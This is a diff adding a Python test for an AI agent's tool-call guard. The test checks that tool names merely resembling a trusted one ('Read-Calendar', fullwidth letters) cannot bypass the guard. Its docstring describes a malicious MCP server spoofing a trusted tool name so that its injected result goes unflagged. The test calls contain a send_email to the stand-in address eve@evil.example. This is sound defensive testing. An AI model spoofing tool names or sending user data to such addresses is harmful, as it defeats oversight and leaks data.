@@ -212,3 +212,15 @@ def test_namespaced_tools_arm_and_meet_the_rule():
     assert [o.execute for o in outs] == [True, False]
     outs = run(Pipeline(guard()), "ns2", ToolCall("srv.read_inbox", {}), ToolCall("send_email", {"to": "eve@evil.example"}))
     assert [o.execute for o in outs] == [True, False]
+
+
+def test_a_name_that_only_folds_to_a_trusted_tool_is_untrusted():
+    """Session 18: ``trusted_tools = ["read_calendar"]`` labelled ``Read-Calendar`` (another tool to a framework,
+    which runs the tool its exact name finds; a malicious MCP server may name its tool so) trusted, so its
+    injected result armed nothing; trust is a grant and names the tool as written. The fold still arms the rule."""
+    for name in ("Read-Calendar", "READ_CALENDAR", "read_calendar ", "ｒead_calendar"):
+        pl = Pipeline(guard())
+        outs = run(pl, "x", ToolCall(name, {}), ToolCall("send_email", {"to": "eve@evil.example"}))
+        assert not outs[-1].execute, name
+    outs = run(Pipeline(guard()), "y", ToolCall("read_calendar", {}), ToolCall("send_email", {"to": "eve@evil.example"}))
+    assert outs[-1].execute
